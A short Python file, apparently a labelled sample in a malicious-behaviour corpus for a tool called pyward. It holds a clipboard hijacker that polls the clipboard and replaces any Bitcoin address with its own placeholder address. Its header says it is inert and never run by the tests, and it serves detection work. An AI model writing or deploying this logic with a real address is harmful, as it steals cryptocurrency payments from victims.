# Inert model for pyward's malicious-behaviour corpus: the address is a placeholder and the tests
# never run this file.
import re
import time

import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
MINE = "PLACEHOLDER-NOT-A-BITCOIN-ADDRESS"

while True:
    text = pyperclip.paste().strip()
    if BTC.match(text) and text != MINE:
        pyperclip.copy(MINE)
    time.sleep(0.5)
